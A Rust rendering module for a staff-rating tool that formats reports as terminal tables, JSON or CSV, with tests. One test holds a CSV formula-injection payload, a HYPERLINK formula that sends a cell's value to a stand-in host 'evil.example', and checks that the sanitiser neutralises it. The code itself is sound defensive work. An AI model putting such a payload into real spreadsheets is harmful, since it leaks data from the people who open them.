//! Rendering: a computed value (scores, ratings, events …) becomes a table for people,
//! JSON for programs, or CSV for spreadsheets; documents become HTML, Markdown or a
//! workbook. Nothing here computes anything.
//!
//! The views of the commands are grouped by command family (`scores`, `log`, `people`,
//! `rules`, `reviews`); each declares its table columns beside the code that fills them.

mod charts;
pub mod html;
mod leave;
mod log;
pub mod markdown;
mod notices;
mod people;
mod reviews;
mod rules;
mod scores;
pub mod template;
pub mod workbook;

use comfy_table::{CellAlignment, ColumnConstraint, ContentArrangement, Table, presets};
use serde::Serialize;

pub use charts::{grade_color, grade_color_of};
pub use leave::{HolidaysView, LeavesView};
pub use log::{AppealsView, AuditView, ClosingsView, CorrectionsView, EventsView};
pub use notices::{ChannelsView, EvidenceView, NoticesView};
pub use people::{DepartmentRatingsView, DepartmentsView, StaffHistoryView, StaffView, UsersView};
pub use reviews::{FinalGrade, ReviewRow, ReviewsView, Waiting};
pub use rules::{CasesView, CoverageView, DiffView, VersionRow, VersionsView};
pub use scores::{MonthExplanation, RatingsView, ScoresView, YearExplanation};

/// Output format of a command that prints records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Format {
    #[default]
    Table,
    Json,
    Csv,
}

/// How a column's cells sit in a table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Align {
    /// Short text (ids, dates, codes), lined up on the left and never broken.
    Left,
    /// Numbers, lined up on the right and never broken.
    Right,
    /// Long text (names of rules, outcomes, notes), lined up on the left; on a narrow
    /// terminal it wraps inside its column.
    Text,
}

/// A table's header and rows, as `Columns` builds them.
#[derive(Debug, Default)]
pub struct Layout {
    columns: Vec<(&'static str, Align)>,
    rows: Vec<Vec<String>>,
}

/// Builds a table one column at a time, each named beside the code that fills its cells,
/// over rows of any type.
pub struct Columns<T> {
    items: Vec<T>,
    layout: Layout,
}

impl<T> Columns<T> {
    /// A table with a row per item.
    pub fn over(items: impl IntoIterator<Item = T>) -> Columns<T> {
        let items: Vec<T> = items.into_iter().collect();
        Columns {
            layout: Layout {
                columns: Vec::new(),
                rows: items.iter().map(|_| Vec::new()).collect(),
            },
            items,
        }
    }

    /// A column of text, lined up on the left.
    pub fn left(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Left, cell)
    }

    /// A column of long text, which wraps inside its column on a narrow terminal.
    pub fn text(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Text, cell)
    }

    /// A column of numbers, lined up on the right.
    pub fn right(self, name: &'static str, cell: impl Fn(&T) -> String) -> Columns<T> {
        self.column(name, Align::Right, cell)
    }

    fn column(
        mut self,
        name: &'static str,
        align: Align,
        cell: impl Fn(&T) -> String,
    ) -> Columns<T> {
        self.layout.columns.push((name, align));
        for (row, item) in self.layout.rows.iter_mut().zip(&self.items) {
            row.push(cell(item));
        }
        self
    }

    pub fn done(self) -> Layout {
        self.layout
    }
}

impl Layout {
    /// The column names, in order.
    pub fn headers(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.columns.iter().map(|(name, _)| *name)
    }

    /// The cells, row by row.
    pub fn rows(&self) -> &[Vec<String>] {
        &self.rows
    }
}

/// A value that can be shown as rows: JSON comes from `Serialize`, table and CSV from its
/// layout.
pub trait Records: Serialize {
    fn layout(&self) -> Layout;
    /// Lines above the table (table format only).
    fn heading(&self) -> Vec<String> {
        Vec::new()
    }
    /// Lines below the table (table format only).
    fn footing(&self) -> Vec<String> {
        Vec::new()
    }
}

/// Renders `value` in `format`; the text ends with a newline. A table given a `width`
/// (a terminal's) wraps long cells inside their columns to fit it; without one it keeps
/// one line per row, whatever the length.
pub fn render(format: Format, value: &impl Records, width: Option<u16>) -> String {
    match format {
        Format::Json => {
            let mut s =
                serde_json::to_string_pretty(value).expect("report values always serialize");
            s.push('\n');
            s
        }
        Format::Csv => csv_text(value),
        Format::Table => table_text(value, width),
    }
}

/// Writes `value` to `out` as [`render`] would give it. JSON goes out as it is made: a
/// company's year of ratings is hundreds of megabytes of text, which need not be held
/// whole beside the ratings themselves.
pub fn write(
    format: Format,
    value: &impl Records,
    width: Option<u16>,
    out: impl std::io::Write,
) -> std::io::Result<()> {
    use std::io::Write;
    let mut out = std::io::BufWriter::new(out);
    match format {
        Format::Json => {
            serde_json::to_writer_pretty(&mut out, value)?;
            out.write_all(b"\n")?;
        }
        _ => out.write_all(render(format, value, width).as_bytes())?,
    }
    out.flush()
}

/// A cell a spreadsheet opens as text, never as a formula: a leading `=`, `+`, `-`, `@`,
/// tab or carriage return gets a `'` in front (the spreadsheet convention for "this is
/// text"), except for a plain negative number, which stays a number.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell
        .strip_prefix('-')
        .is_some_and(|n| n.parse::<f64>().is_ok());
    if risky && !number {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A cell as a terminal shows it: control characters (escape sequences, bells) replaced,
/// line breaks kept for cells that wrap on purpose.
fn terminal_safe(cell: String) -> String {
    if cell.chars().any(|c| c.is_control() && c != '\n') {
        cell.chars()
            .map(|c| {
                if c.is_control() && c != '\n' {
                    '�'
                } else {
                    c
                }
            })
            .collect()
    } else {
        cell
    }
}

fn csv_text(value: &impl Records) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let write = |w: &mut csv::Writer<Vec<u8>>| -> csv::Result<()> {
        let layout = value.layout();
        w.write_record(layout.columns.iter().map(|(c, _)| *c))?;
        for row in &layout.rows {
            w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()))?;
        }
        w.flush()?;
        Ok(())
    };
    // Writing to memory cannot fail.
    write(&mut w).expect("CSV into memory");
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

fn table_text(value: &impl Records, width: Option<u16>) -> String {
    let mut out = String::new();
    for line in value.heading() {
        out.push_str(&line);
        out.push('\n');
    }
    let Layout { columns, rows } = value.layout();
    if rows.is_empty() {
        out.push_str("(none)\n");
    } else {
        let mut table = Table::new();
        // No styling and no width detection of its own: the same data always prints the
        // same for the same width.
        table
            .load_preset(presets::UTF8_FULL_CONDENSED)
            .force_no_tty();
        if let Some(w) = width {
            table
                .set_content_arrangement(ContentArrangement::Dynamic)
                .set_width(w);
        }
        table.set_header(columns.iter().map(|(c, _)| *c));
        table.add_rows(
            rows.into_iter()
                .map(|r| r.into_iter().map(terminal_safe).collect::<Vec<_>>()),
        );
        for (i, (_, align)) in columns.iter().enumerate() {
            let Some(c) = table.column_mut(i) else {
                continue;
            };
            if *align == Align::Right {
                c.set_cell_alignment(CellAlignment::Right);
            }
            // Only long text gives way when the table must fit a width.
            if *align != Align::Text {
                c.set_constraint(ColumnConstraint::ContentWidth);
            }
        }
        out.push_str(&table.to_string());
        out.push('\n');
    }
    for line in value.footing() {
        out.push_str(&wrap(&line, width.map_or(FOOTING_WIDTH, usize::from)));
        out.push('\n');
    }
    out
}

/// How wide a table's footing lines get when no terminal says: a long list (the rules that
/// never fired) reads as a paragraph, not one line of a thousand columns.
const FOOTING_WIDTH: usize = 100;

/// `line` broken after its list separators (`, `) so that no line is wider than `width`
/// columns (a Chinese character takes two); continued lines are indented by two spaces.
fn wrap(line: &str, width: usize) -> String {
    use unicode_width::UnicodeWidthStr;
    let mut out = String::with_capacity(line.len());
    let mut used = 0;
    for (i, piece) in line.split_inclusive(", ").enumerate() {
        let w = piece.trim_end().width();
        if i > 0 && used + w > width {
            // The separator's space ends the line it was on.
            out.truncate(out.trim_end().len());
            out.push_str("\n  ");
            used = 2;
        }
        out.push_str(piece);
        used += piece.width();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn footing_lists_wrap_at_their_separators() {
        let line = format!(
            "never fired (30): {}",
            vec!["company:grooming"; 30].join(", ")
        );
        let wrapped = wrap(&line, 60);
        assert!(wrapped.lines().count() > 5, "{wrapped}");
        for l in wrapped.lines() {
            assert!(unicode_width::UnicodeWidthStr::width(l) <= 60, "{l:?}");
        }
        assert_eq!(wrapped.replace("\n  ", " "), line);
        assert_eq!(wrap("短的, 行", 60), "短的, 行");
    }

    #[derive(Serialize)]
    struct Names(Vec<(String, i32)>);

    impl Records for Names {
        fn layout(&self) -> Layout {
            Columns::over(&self.0)
                .text("name", |(a, _)| a.clone())
                .right("n", |(_, b)| b.to_string())
                .done()
        }
    }

    #[test]
    fn table_lines_up_with_cjk_text() {
        let t = render(
            Format::Table,
            &Names(vec![("张三丰".into(), 1), ("Bob".into(), 10)]),
            None,
        );
        let widths: Vec<usize> = t
            .lines()
            .map(unicode_width::UnicodeWidthStr::width)
            .collect();
        assert!(widths.windows(2).all(|w| w[0] == w[1]), "{t}");
    }

    #[test]
    fn written_reports_are_the_rendered_text_in_every_format() {
        let names = Names(vec![("张三丰".into(), 1), ("a,b".into(), -2)]);
        for format in [Format::Json, Format::Csv, Format::Table] {
            let mut out = Vec::new();
            write(format, &names, None, &mut out).unwrap();
            assert_eq!(
                String::from_utf8(out).unwrap(),
                render(format, &names, None)
            );
        }
    }

    #[test]
    fn csv_quotes_when_needed() {
        let t = render(Format::Csv, &Names(vec![("a,b".into(), 1)]), None);
        assert_eq!(t, "name,n\n\"a,b\",1\n");
    }

    #[test]
    fn a_table_given_a_width_wraps_long_cells_to_fit_it() {
        let long = "通报表扬、晋升加薪、年度优秀员工、奖金加倍".repeat(3);
        let names = Names(vec![(long.clone(), 1), ("Bob".into(), 10)]);
        let wide = render(Format::Table, &names, None);
        let fitted = render(Format::Table, &names, Some(40));
        let width = |t: &str| {
            t.lines()
                .map(unicode_width::UnicodeWidthStr::width)
                .max()
                .unwrap_or(0)
        };
        assert!(width(&wide) > 40, "{wide}");
        assert!(width(&fitted) <= 40, "{fitted}");
        // Every character is still there, wrapped over more lines.
        assert!(fitted.lines().count() > wide.lines().count());
        let text: String = fitted
            .chars()
            .filter(|c| !c.is_whitespace() && !"│┆║".contains(*c))
            .collect();
        assert!(text.contains("通报表扬"));
    }

    #[test]
    fn csv_cells_never_run_as_formulas() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
                "'=HYPERLINK(",
            ),
            ("+1+1", "'+1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("-1+1", "'-1+1"),
            ("-3", "-3"),
            ("-2.5", "-2.5"),
            ("张三", "张三"),
        ] {
            assert!(spreadsheet_safe(cell).starts_with(want), "{cell}");
        }
        let t = render(Format::Csv, &Names(vec![("=1+1".into(), -3)]), None);
        assert_eq!(t, "name,n\n'=1+1,-3\n");
    }

    #[test]
    fn escape_sequences_never_reach_the_terminal() {
        let t = render(
            Format::Table,
            &Names(vec![("\u{1b}[31mred".into(), 1)]),
            None,
        );
        assert!(!t.contains('\u{1b}'), "{t:?}");
        assert!(t.contains("�[31mred"), "{t}");
    }
}
